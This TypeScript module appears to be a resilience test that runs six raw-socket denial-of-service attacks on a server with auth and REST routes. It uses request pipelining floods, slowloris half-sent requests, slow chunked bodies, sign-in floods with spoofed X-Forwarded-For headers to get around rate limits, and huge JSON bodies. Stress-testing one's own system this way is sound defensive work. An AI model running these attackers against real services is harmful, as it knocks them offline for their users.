// Six attackers on raw sockets. They come from addresses of their own where the system has some, and past the proxy that the server trusts.
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Report } from './hostile-callers.ts';

/** `token` is a member's. */
type Target = { url: string; token: string; seconds: number };

/** Waits between two connections of one attacker, so that they do not only measure how fast the system opens them. */
const BETWEEN_MS = 500;

const head = (first: string, ...headers: string[]) =>
  `${[`${first} HTTP/1.1`, 'Host: x', ...headers].join('\r\n')}\r\n\r\n`;
const chunked = 'Transfer-Encoding: chunked';
const ones = '1\r\na\r\n'.repeat(10_000);

/** Sends on a new connection until it is closed. */
type Attack = {
  connections: number;
  send: (socket: Socket, target: Target, number: number) => unknown;
  isRead: boolean;
};

/** Writes the text as often as this, no faster than it is read. Never resolves if the connection is closed before. */
async function repeat(socket: Socket, written: string, times: number): Promise<void> {
  for (let time = 0; time < times; time += 1) {
    if (!socket.write(written)) await event(socket, 'drain');
  }
}

const event = (socket: Socket, name: string) => new Promise((resolve) => socket.once(name, resolve));

/** One request after the other, each after the response to the previous one. */
const requests = (socket: Socket, written: string) => {
  socket.on('data', () => socket.write(written));
  socket.write(written);
};

const rejectedToken = (number: number) =>
  `${head(
    'POST /auth/v1/token?grant_type=password',
    `X-Forwarded-For: 203.0.113.${100 + (number % 4)}`,
    'Content-Type: application/json',
    'Content-Length: 2',
  )}{}`;

const manyObjects = `[${Array.from({ length: 199_000 }, () => '{"nope":1}').join(',')}]`;

const attacks: Record<string, Attack> = {
  pipelining: {
    connections: 60,
    isRead: false,
    send: (socket) => void socket.write(head('GET /') + head('GET /x').repeat(1_990)),
  },
  'one-byte chunks': {
    connections: 30,
    isRead: true,
    send: (socket) => {
      socket.write(head('POST /auth/v1/nowhere', chunked));
      return repeat(socket, ones, 100);
    },
  },
  'chunks of a member': {
    connections: 30,
    isRead: true,
    send: (socket, { token }) => {
      const type = 'Content-Type: application/json';
      socket.write(head('POST /rest/v1/campaigns', chunked, type, `Authorization: Bearer ${token}`));
      return repeat(socket, ones, 100);
    },
  },
  'half-sent requests': {
    connections: 1_000,
    isRead: true,
    send: (socket) => void socket.write('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: '),
  },
  'rejected sign-ins': {
    connections: 490,
    isRead: true,
    send: (socket, _, number) => requests(socket, rejectedToken(number)),
  },
  '199,000 objects': {
    connections: 4,
    isRead: true,
    send: (socket, { token }) => {
      const headers = [
        `Authorization: Bearer ${token}`,
        'Content-Type: application/json',
        `Content-Length: ${manyObjects.length}`,
      ];
      requests(socket, head('POST /rest/v1/campaigns?columns=nope', ...headers) + manyObjects);
    },
  },
};

/** Runs all attackers, and counts their responses by status; 0 stands for a closed connection. */
export async function attackRaw(target: Target): Promise<Report[]> {
  const end = performance.now() + target.seconds * 1_000;
  const { hostname, port } = new URL(target.url);
  const attack = async ([name, { connections, send, isRead }]: [string, Attack], index: number) => {
    const statuses = new Map<number, number>();
    const count = (status: number) => statuses.set(status, (statuses.get(status) ?? 0) + 1);
    const localAddress = process.platform === 'linux' ? `127.0.0.${60 + index}` : undefined;
    const worker = async (number: number) => {
      await delay(number * 2);
      while (performance.now() < end) {
        const socket = connect({ host: hostname, port: Number(port), localAddress }).setEncoding('latin1');
        socket.on('error', () => {});
        const late = setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()));
        const closed = event(socket, 'close');
        if (isRead) {
          socket.on('data', (received: unknown) => {
            for (const [, status] of String(received).matchAll(/HTTP\/1\.1 (\d{3})/g)) count(Number(status));
          });
        }
        send(socket, target, number);
        await closed;
        clearTimeout(late);
        count(0);
        await delay(BETWEEN_MS);
      }
    };
    await Promise.all(Array.from({ length: connections }, (_, number) => worker(number)));
    return { name, statuses };
  };
  return Promise.all(Object.entries(attacks).map(attack));
}
